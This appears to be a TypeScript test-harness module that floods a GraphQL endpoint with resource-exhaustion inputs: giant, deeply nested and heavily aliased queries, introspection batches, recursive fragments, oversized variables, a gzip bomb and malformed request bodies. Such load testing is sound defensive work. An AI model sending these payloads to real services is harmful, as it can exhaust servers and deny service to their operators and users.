import { gzipSync } from 'node:zlib';
import { type Attack, ask, keepAt, send } from '../target.ts';

const giant = (turn: number): string => `{ viewer { ${`a${turn} `.repeat(30_000)} } }`;
const commented = (turn: number): string => `#${turn}${'x'.repeat(200_000)}\n{ viewer { id } }`;
const introspection =
  '__schema { types { name fields { name type { name ofType { name } } args { name } } } }';

const documents: ((turn: number) => [query: string, variables?: object])[] = [
  (turn) => [giant(turn)],
  (turn) => [commented(turn)],
  () => [`{ node(id: ${'['.repeat(100_000)}`],
  () => [`{ node(id: ${'{a:'.repeat(60_000)}`],
  (turn) => [`{ ${Array.from({ length: 400 }, (_, i) => `a${turn}x${i}: viewer { id }`).join(' ')} }`],
  () => [`{ ${Array.from({ length: 50 }, (_, i) => `a${i}: ${introspection}`).join(' ')} }`],
  (turn) => [`query Q${turn} { ${introspection} }`],
  () => [`{ ${Array.from({ length: 500 }, (_, i) => `nonsense${i}`).join(' ')} }`],
  () => [
    'query ($ids: [ID!]!) { nodes(ids: $ids) { id } }',
    { ids: Array.from({ length: 20_000 }, () => ({})) },
  ],
  () => ['query ($a: Int) { sprites(first: $a) { nodes { id } } }', { a: 'x'.repeat(200_000) }],
  () => [
    '{ sprites(first: -2000000) { nodes { id } } a: sprites(first: 100) { nodes { versions { id } } } }',
  ],
  () => ['fragment F on Query { ...F } { ...F }'],
];

/** Documents that are long, deep, wide or wrong, each a little different from the last. */
export const documentsAttack: Attack = {
  name: 'giant, nested and multiplied documents',
  run: (target) =>
    keepAt(target, 2, async (turn) => {
      const [query, variables] = documents[turn % documents.length]!(turn);
      await ask(target, query, variables, { from: 1_000 + (turn % 50) });
    }),
};

/** Bodies of every kind that is not the right one. */
export const bodiesAttack: Attack = {
  name: 'bodies of the wrong kind and size',
  async run(target) {
    const large = Buffer.alloc(24 * 1024 * 1024, '{"query":"{ viewer { id } }"}');
    const zipped = gzipSync(Buffer.alloc(50 * 1024 * 1024, 32));
    const json = { 'content-type': 'application/json' };
    const kinds: (() => Promise<unknown>)[] = [
      () => send(target, '/api/graphql', { method: 'POST', body: large, headers: json }),
      () =>
        send(target, '/api/graphql', {
          method: 'POST',
          body: zipped,
          headers: { ...json, 'content-encoding': 'gzip' },
        }),
      () =>
        send(target, '/api/graphql', {
          method: 'POST',
          body: JSON.stringify(Array.from({ length: 2_000 }, () => ({ query: '{ viewer { id } }' }))),
          headers: json,
        }),
      () =>
        send(target, '/api/graphql', {
          method: 'POST',
          body: 'query=%7Bviewer%7Bid%7D%7D',
          headers: { 'content-type': 'application/x-www-form-urlencoded' },
        }),
      () => send(target, '/api/graphql', { method: 'POST', body: `${'['.repeat(200_000)}`, headers: json }),
      () => {
        const form = new FormData();
        form.set('operations', large.subarray(0, 2_000_000).toString());
        form.set('map', '{"0":["variables.x"]}');
        return send(target, '/api/graphql', {
          method: 'POST',
          body: form,
          headers: { 'graphql-preflight': '1' },
        });
      },
    ];
    await keepAt(target, 1, (turn) => kinds[turn % kinds.length]!(), 50);
  },
};
